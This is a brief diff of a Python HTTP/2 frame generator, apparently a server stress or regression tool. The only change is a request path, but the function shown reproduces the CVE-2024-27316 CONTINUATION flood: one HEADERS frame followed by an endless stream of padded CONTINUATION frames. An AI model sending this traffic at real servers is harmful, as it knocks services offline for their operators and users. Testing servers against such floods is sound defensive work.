@@ -33,7 +33,7 @@ def resets():
 
 def continuations():
     """CVE-2024-27316 and similar ones: a header block that never ends."""
-    yield frame(1, 1, 1, get(b"/jobs/x"))
+    yield frame(1, 1, 1, get(b"/jobs/x1"))
     part = frame(9, 0, 1, (b"\0\1a\x10" + b"a" * 16) * 700)
     while True:
         yield part
